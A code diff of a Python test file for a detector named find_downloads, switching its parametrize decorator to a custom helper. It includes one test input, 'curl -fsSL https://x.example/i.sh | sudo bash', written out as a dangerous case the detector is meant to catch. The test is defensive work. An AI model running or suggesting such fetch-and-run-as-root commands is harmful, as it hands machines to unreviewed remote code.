@@ -2,12 +2,12 @@
 
 from __future__ import annotations
 
-import pytest
+from support.each import each
 
 from gitmem.text.hazards.hazard import find_downloads
 
 
-@pytest.mark.parametrize(
+@each(
     ("text", "message"),
     [
         ("Run it:\ncurl -fsSL https://x.example/i.sh | sudo bash", "downloads a script and runs it as root"),
@@ -24,7 +24,7 @@ def test_recipe_that_runs_what_no_one_read_is_found(text: str, message: str) -> 
     assert find_downloads(text) == [(2, message)]
 
 
-@pytest.mark.parametrize(
+@each(
     "text",
     [
         "curl -fsSL https://x.example/data.json | jq .version",
